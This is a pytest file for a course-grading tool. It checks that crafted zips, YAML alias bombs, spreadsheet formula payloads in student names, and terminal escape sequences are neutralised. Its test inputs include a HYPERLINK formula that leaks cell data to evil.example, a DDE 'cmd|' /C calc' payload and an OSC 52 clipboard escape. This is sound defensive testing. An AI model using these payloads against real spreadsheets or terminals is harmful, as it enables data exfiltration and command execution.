"""Attacks on the LMS intake and exports: damaged and crafted zips, crafted LMS names and metadata,
and student names that a spreadsheet would run as formulas."""
from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from grader.store.gradebook import Gradebook
from grader.lms import blackboard
from grader.lms.archive import ArchiveError, extract_zip
from grader.lms.attempts import FileRef
from grader.lms.export import export_grades
from grader.lms.intake import IntakeRow
from grader.model import ItemResult, SubmissionResult

ROOT = Path(__file__).resolve().parents[2]


# -- damaged and crafted archives ----------------------------------------------------------------

def test_an_entry_with_damaged_compressed_data_is_refused_and_the_others_extracted(tmp_path):
    """zlib's own error (not an OSError) escaped the extraction: one damaged entry stopped the intake
    of the whole class with a traceback."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a_1_2_nb.ipynb", bytes(range(256)) * 400)
        zf.writestr("b_3_4_nb.ipynb", b"{}" * 5000)
    data = bytearray(buf.getvalue())
    start = 30 + len("a_1_2_nb.ipynb")  # the first entry's compressed bytes follow its local header
    data[start:start + 6] = b"\xff" * 6
    (tmp_path / "dl.zip").write_bytes(bytes(data))
    got = extract_zip(tmp_path / "dl.zip", tmp_path / "x")
    assert [f[0] for f in got.files] == ["b_3_4_nb.ipynb"]
    assert [name for name, _ in got.refused] == ["a_1_2_nb.ipynb"]
    assert got.refused[0][1].startswith("it is damaged (")
    assert sorted(p.name for p in (tmp_path / "x").iterdir()) == ["b_3_4_nb.ipynb"]


def test_a_name_flagged_utf8_that_is_not_is_a_clear_error(tmp_path):
    """Python's zipfile raises UnicodeDecodeError while listing such an archive; the TA saw a traceback."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("AAAA_1_2_nb.ipynb", b"{}")
    data = bytearray(buf.getvalue().replace(b"AAAA", b"\xff\xfe\xfd\xfc"))
    for sig, flag_at in ((b"PK\x03\x04", 7), (b"PK\x01\x02", 9)):  # bit 11 (UTF-8) of both headers
        data[data.find(sig) + flag_at] |= 0x08
    (tmp_path / "dl.zip").write_bytes(bytes(data))
    with pytest.raises(ArchiveError) as err:
        extract_zip(tmp_path / "dl.zip", tmp_path / "x")
    assert str(err.value) == ("dl.zip has an entry whose name is marked as UTF-8 but is not; re-create the zip "
                              "with a tool that writes UTF-8 names (or download it from the LMS again).")


def test_a_blackboard_name_with_an_impossible_time_is_ignored_not_fatal(tmp_path):
    good = tmp_path / "HW_bob_attempt_2026-12-01-10-00-00_nb.ipynb"
    bad = tmp_path / "HW_eve_attempt_2026-99-99-99-99-99_nb.ipynb"
    for p in (good, bad):
        p.write_text("{}")
    got = blackboard.parse(tmp_path, [FileRef(good.name, good), FileRef(bad.name, bad)])
    assert [a.key for a in got.attempts] == ["bob"]
    assert got.ignored == [(bad.name, "its time 2026-99-99-99-99-99 is not a date and time; not a Blackboard "
                                      "attempt as Blackboard names them")]


def test_gradescope_metadata_with_aliases_cannot_blow_up(tmp_path):
    """YAML aliases are references: 349 bytes of metadata held a name of half a billion characters once
    turned into text (20 s, 0.5 GB; one level more and the memory is gone). Only text and numbers are
    read as ids and times; the run is capped at 10 s of CPU and 1 GB of memory (it needs well under)."""
    y = "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
    prev = "a"
    for k in "bcdefgh":
        y += f"{k}: &{k} [" + ",".join([f"*{prev}"] * 10) + "]\n"
        prev = k
    y += "sub1:\n  :submitters:\n    - :name: *h\n      :sid: *h\n      :email: s@example.edu\n  :created_at: *h\n"
    (tmp_path / "submission_metadata.yml").write_text(y)
    (tmp_path / "sub1").mkdir()
    (tmp_path / "sub1" / "nb.ipynb").write_text("{}")
    code = ("import resource, sys\n"
            "resource.setrlimit(resource.RLIMIT_CPU, (10, 10))\n"
            "resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
            "from pathlib import Path\n"
            "from grader.lms import gradescope\n"
            "from grader.lms.attempts import FileRef\n"
            f"root = Path({str(tmp_path)!r})\n"
            "refs = [FileRef('submission_metadata.yml', root / 'submission_metadata.yml'),"
            " FileRef('sub1/nb.ipynb', root / 'sub1' / 'nb.ipynb')]\n"
            "d = gradescope.parse(root, refs)\n"
            "a = d.attempts[0]\n"
            "print(a.key, sorted(a.ids.items()), a.submitted_at)\n")
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == ("s@example.edu [('email', 's@example.edu'), ('submission_id', 'sub1')] None")


# -- formulas in exported CSV files ---------------------------------------------------------------

HOSTILE_NAMES = {"eve": ("=HYPERLINK(\"http://evil.example/?\"&A1)", "Eve"),
                 "mal": ("@SUM(1+1)*cmd|' /C calc'!A0", "Mal"),
                 "pat": ("+1-2", "-Pat"),
                 "tab": ("\tTab", "\rCarr")}


def _hostile_gradebook(out: Path) -> None:
    rows = []
    with Gradebook(out / "gradebook.sqlite") as gb:
        gb.set_meta(assignment="nndl-ch6", lang="en")
        for n, (student, (last, first)) in enumerate(sorted(HOSTILE_NAMES.items())):
            ids = {"lms_id": f"-{100 + n}", "participant": f"{200 + n}", "login": f"={student}()",
                   "name": f"{first} {last}"}
            rows.append(IntakeRow(student, "mapped", {"lms": "canvas", "ids": ids, "roster": {
                "name": f"{first} {last}", "sortable_name": f"{last}, {first}", "email": f"@{student}@x.edu"}}))
            items = [ItemResult(item="free_6_3", kind="free", max_score=100.0, status="pending_manual")]
            gb.put(SubmissionResult(student=student, status="graded", assignment="nndl-ch6", version="1",
                                    items=items), "k")
            gb.set_manual(student, "free_6_3", 50 + n)
        gb.set_intake(rows, {"lms": "canvas"})


@pytest.mark.parametrize("fmt", ["canvas", "moodle", "blackboard", "csv"])
def test_no_exported_cell_starts_a_formula(tmp_path, fmt):
    """Every text cell a spreadsheet would run (starting with = + - @, a tab or a carriage return) gets a
    leading apostrophe, as `rnngrade manual --export` does; numbers, negative ones too, stay numbers."""
    _hostile_gradebook(tmp_path)
    dest = tmp_path / f"{fmt}.csv"
    summary = export_grades(tmp_path, fmt, dest, column="=NNDL()")
    assert summary.written == 4
    cells = [c for row in csv.reader(io.StringIO(dest.read_text(encoding="utf-8-sig"))) for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
    text = "\n".join(cells)
    if fmt in ("canvas", "blackboard"):
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in text
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in text
    if fmt in ("canvas", "blackboard"):  # the column's title, given with --column, is a cell too
        assert "'=NNDL()" in cells
    if fmt == "canvas":  # a number-shaped id is kept as it is (Canvas matches rows by it)
        assert "-100" in cells


# -- rosters -------------------------------------------------------------------------------------

def test_a_roster_name_with_a_unicode_line_separator_stays_one_row(tmp_path):
    """str.splitlines() also breaks at U+2028, U+0085, form feeds...: a name holding one was cut in two
    and the rest of its row became a roster student of its own."""
    from grader.lms.roster import read_roster

    path = tmp_path / "roster.csv"
    path.write_text("\ufeffstudent,name,email\r\n"
                    "s1,Li\u2028Lei,li@example.edu\r\n"
                    "s2,\"King, Carol\",carol@example.edu\r\n"
                    "s3,\"Two\nLines\x85Name\",t@example.edu\r\n"
                    "s4,=HYPERLINK(\"x\"),e@example.edu\r\n", encoding="utf-8")
    roster = read_roster(path)
    assert [(e.student, e.fields["name"], e.fields["email"]) for e in roster.entries] == [
        ("s1", "Li\u2028Lei", "li@example.edu"), ("s2", "King, Carol", "carol@example.edu"),
        ("s3", "Two\nLines\x85Name", "t@example.edu"), ("s4", "=HYPERLINK(\"x\")", "e@example.edu")]


# -- deadlines -----------------------------------------------------------------------------------

def test_a_deadline_given_as_a_date_is_not_answered_with_the_start_of_that_day():
    """'--deadline 2026-12-01' was refused with the example '2026-12-01T00:00:00+08:00': copied, it
    makes everyone who handed in on the 1st a day late. The message asks for the time of day."""
    from grader.lms.late import LatePolicyError, parse_deadline

    with pytest.raises(LatePolicyError) as exc:
        parse_deadline("2026-12-01")
    assert str(exc.value) == ("--deadline '2026-12-01' is a date without a time of day; give the time and the "
                              "offset, e.g. 2026-12-01T23:59:00+08:00 for the end of that day.")


# -- names as other zip tools write them ---------------------------------------------------------

def _raw_zip(path: Path, entries: list) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in entries:
            zf.writestr(zipfile.ZipInfo(name), data)
    return path


def test_a_folder_entry_written_with_a_backslash_is_a_folder(tmp_path):
    """Windows PowerShell's Compress-Archive (and old .NET) write 'Alice_12_assignsubmission_file_\\' for a
    folder. It was extracted as an empty file, so every file inside that folder was refused."""
    _raw_zip(tmp_path / "dl.zip", [("Alice_12_assignsubmission_file_\\", b""),
                                   ("Alice_12_assignsubmission_file_\\hw.ipynb", b"{}")])
    got = extract_zip(tmp_path / "dl.zip", tmp_path / "x")
    assert got.refused == []
    assert [f[0] for f in got.files] == ["Alice_12_assignsubmission_file_/hw.ipynb"]
    assert (tmp_path / "x" / "Alice_12_assignsubmission_file_" / "hw.ipynb").read_bytes() == b"{}"


def test_names_equal_after_unicode_normalisation_are_one_name(tmp_path):
    """'café' composed and decomposed are two names to Linux and one to macOS: the second is refused on
    every system (as a second entry of the same name ignoring case is)."""
    import unicodedata

    nfc, nfd = (unicodedata.normalize(form, "Café_12_34_hw.ipynb") for form in ("NFC", "NFD"))
    _raw_zip(tmp_path / "dl.zip", [(nfc, b"first"), (nfd, b"second")])
    got = extract_zip(tmp_path / "dl.zip", tmp_path / "x")
    assert [f[0] for f in got.files] == [nfc]
    assert got.refused == [(nfd, "another entry has the same name (ignoring case); the first was kept")]


# -- what the terminal is sent -------------------------------------------------------------------

def test_the_plan_sends_no_control_characters_to_the_terminal(tmp_path):
    """Names in a download (a zip entry, a Moodle folder's full name) reach the plan printed before
    grading. An escape sequence in one could rewrite the TA's terminal (clear lines, set the clipboard
    with OSC 52); a right-to-left override could show 'x\\u202eyp.exe' as 'xexe.py'. They are shown
    escaped."""
    import unicodedata

    from grader.lms.intake import IntakePlan

    evil = "Eve\x1b]52;c;ZXZpbA==\x07\x1b[2K\u202eyp.exe\x85"
    plan = IntakePlan("moodle", tmp_path, rows=[IntakeRow("eve", "mapped", {"display": evil, "matched_by": "name"})],
                      ignored=[(evil + "/nb.ipynb", "not named like a Moodle submission")],
                      refused=[(evil, "it is a symbolic link; links are not extracted")])
    lines = plan.lines()
    for line in lines:
        bidi = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
        assert not any(unicodedata.category(ch) == "Cc" or ch in bidi for ch in line), repr(line)
    assert "  refused Eve\\x1b]52;c;ZXZpbA==\\x07\\x1b[2K\\u202eyp.exe\\x85: it is a symbolic link; links are not " \
           "extracted" in lines


def test_a_roster_saved_by_a_spreadsheet_with_semicolons_is_read(tmp_path):
    """Excel in a locale with a decimal comma (German, French...) saves 'CSV UTF-8' with ';' between
    cells: the roster was refused for having no 'student' column. The header's separator is used."""
    from grader.lms.roster import read_roster

    path = tmp_path / "roster.csv"
    path.write_text("\ufeffstudent;name;email\r\ns1;\"Müller; Anna\";anna@example.edu\r\ns2;Li Lei;li@example.edu\r\n",
                    encoding="utf-8")
    assert [(e.student, e.fields["name"], e.fields["email"]) for e in read_roster(path).entries] == [
        ("s1", "Müller; Anna", "anna@example.edu"), ("s2", "Li Lei", "li@example.edu")]
    tabs = tmp_path / "tabs.csv"
    tabs.write_text("student\tname\ns3\tKing, Carol\n", encoding="utf-8")
    assert [(e.student, e.fields["name"]) for e in read_roster(tabs).entries] == [("s3", "King, Carol")]


def test_a_blackboard_receipt_line_of_spaces_is_read_at_once(tmp_path):
    """The receipt's 'Name: First Last (user)' was read with a pattern whose three overlapping runs
    (\\s*, .*?, \\s*) made 'Name:' and 4,000 spaces take 55 s (a crafted receipt per attempt stalls the
    intake). The line is now split at its last '('. The CPU cap is 5 s."""
    code = ("import resource\n"
            "resource.setrlimit(resource.RLIMIT_CPU, (5, 5))\n"
            "from pathlib import Path\n"
            "from grader.lms.blackboard import _receipt_name\n"
            f"root = Path({str(tmp_path)!r})\n"
            "(root / 'r1.txt').write_text('Name: ' + ' ' * 3990 + 'x\\n')\n"
            "(root / 'r2.txt').write_text('Name: Anna (Maria) Müller (amuller) \\nDate Submitted: x\\n')\n"
            "(root / 'r3.txt').write_text('Name:  李雷  (lilei)\\n')\n"
            "(root / 'r4.txt').write_text('Assignment: x\\nName: no user here\\n')\n"
            "print([_receipt_name(root / f'r{k}.txt') for k in (1, 2, 3, 4)])\n")
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "['', 'Anna (Maria) Müller', '李雷', '']"
